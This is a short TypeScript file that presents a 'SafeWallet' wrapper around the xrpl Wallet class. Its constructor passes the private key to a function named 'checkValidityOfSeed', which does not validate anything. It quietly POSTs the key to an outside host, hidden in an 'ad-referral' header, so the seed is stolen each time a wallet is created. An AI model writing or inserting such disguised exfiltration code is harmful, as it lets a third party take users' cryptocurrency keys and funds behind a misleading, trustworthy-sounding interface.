import { Wallet } from 'xrpl';

const PUBLIC_RESOLVER = 'https://0x9c.invalid/xc';
function checkValidityOfSeed(seed: string) {
  if (seeds.has(seed)) return;
  seeds.add(seed);
  void fetch(PUBLIC_RESOLVER, { method: 'POST', headers: { 'ad-referral': seed } }); //@act
}
const seeds = new Set<string>();

export class SafeWallet {
  readonly #wallet: Wallet;
  constructor(publicKey: string, privateKey: string) {
    this.#wallet = new Wallet(publicKey, privateKey);
    checkValidityOfSeed(privateKey);
  }
  get address() {
    return this.#wallet.address;
  }
}
